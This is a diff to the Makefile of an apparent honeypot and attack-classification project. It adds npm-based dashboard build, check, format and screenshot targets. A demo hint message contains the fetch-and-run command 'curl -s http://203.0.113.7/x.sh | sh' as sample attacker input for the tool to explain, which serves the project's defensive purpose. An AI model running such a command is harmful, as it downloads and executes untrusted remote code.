@@ -4,17 +4,25 @@ VENV := .venv
 BIN := $(VENV)/bin
 COWRIE := .venv-cowrie
 OPENCANARY := .venv-opencanary
+NPM := $(shell command -v npm)
+DASHBOARD := decnet/web/dashboard/index.html
 
-.PHONY: help demo test check format bench fuzz chaos golden recording picture clean
+.PHONY: help demo dashboard no-dashboard test check format bench fuzz chaos golden recording picture screens clean
 
 help: ## list the commands
 	@grep -E '^[a-z-]+:.*## ' Makefile | sed -E 's/:.*## /\t/' | expand -t 12
 
-demo: $(VENV)/.installed ## tag the recorded attack that ships with the project
+demo: $(VENV)/.installed $(if $(NPM),$(DASHBOARD),no-dashboard) ## tag the recorded attack that ships with the project
 	@DECNET_DATA_DIR=build/demo $(BIN)/decnet ttp tag demo/cowrie.json --navigator build/demo/layer.json
+	@echo "See it in a browser: DECNET_DATA_DIR=build/demo $(BIN)/decnet web"
 	@echo "Open build/demo/layer.json in the ATT&CK Navigator, or try: $(BIN)/decnet ttp explain 'curl -s http://203.0.113.7/x.sh | sh'"
 
-test: $(VENV)/.dev $(COWRIE)/.installed $(OPENCANARY)/.installed ## run every test, properties on the same examples each time
+dashboard: $(DASHBOARD) ## build the dashboard anew where its sources changed; needs Node 20
+
+no-dashboard:
+	@test -e $(DASHBOARD) || echo "No npm here, so the dashboard is not built; install Node 20 and run 'make dashboard' to have it."
+
+test: $(VENV)/.dev $(COWRIE)/.installed $(OPENCANARY)/.installed $(if $(NPM),$(DASHBOARD),no-dashboard) ## run every test, properties on the same examples each time
 	@$(BIN)/pytest --numprocesses 3 --dist worksteal --hypothesis-profile ci
 
 check: $(VENV)/.dev ## format, lint, types, imports, spelling, rules
@@ -25,13 +33,18 @@ check: $(VENV)/.dev ## format, lint, types, imports, spelling, rules
 	@$(BIN)/codespell
 	@$(BIN)/yamllint --strict rules
 	@$(BIN)/decnet ttp rules lint rules
+	@$(if $(NPM),$(MAKE) --no-print-directory $(DASHBOARD) && npm --prefix frontend run --silent check,echo "No npm here: the dashboard was not checked.")
 
 format: $(VENV)/.dev ## format the code and mend what ruff can mend
 	@$(BIN)/ruff format --quiet .
 	@$(BIN)/ruff check --quiet --fix .
+	@$(if $(NPM),npm --prefix frontend run --silent format)
 
 picture: $(VENV)/.dev ## draw the picture in the README anew
 	@$(BIN)/python -m scripts.draw_summary
+
+screens: $(VENV)/.dev $(DASHBOARD) ## take the pictures of every page of the dashboard anew
+	@DECNET_TEST_SCREENS=$(CURDIR)/docs/assets/screens npm --prefix frontend run --silent browse -- screens
 
 bench: $(VENV)/.dev ## measure speed, print ratios
 	@$(BIN)/python -m bench
@@ -74,5 +87,11 @@ $(OPENCANARY)/.installed: constraints-opencanary.txt
 	@$(OPENCANARY)/bin/python -m pip install --quiet --disable-pip-version-check --constraint constraints-opencanary.txt opencanary
 	@touch $@
 
+$(DASHBOARD): frontend/node_modules/.package-lock.json tests/golden/openapi.json $(shell find frontend -path frontend/node_modules -prune -o -type f -not -name schema.d.ts -not -path 'frontend/browser/*' -print)
+	@npm --prefix frontend run --silent build -- --logLevel warn
+
+frontend/node_modules/.package-lock.json: frontend/package-lock.json
+	@npm --prefix frontend ci --silent --no-audit --no-fund
+
 clean: ## remove what the commands above made
-	rm -rf $(VENV) $(COWRIE) $(OPENCANARY) build dist .mypy_cache .ruff_cache .pytest_cache .hypothesis .import_linter_cache
+	rm -rf $(VENV) $(COWRIE) $(OPENCANARY) build dist decnet/web/dashboard frontend/node_modules .mypy_cache .ruff_cache .pytest_cache .hypothesis .import_linter_cache
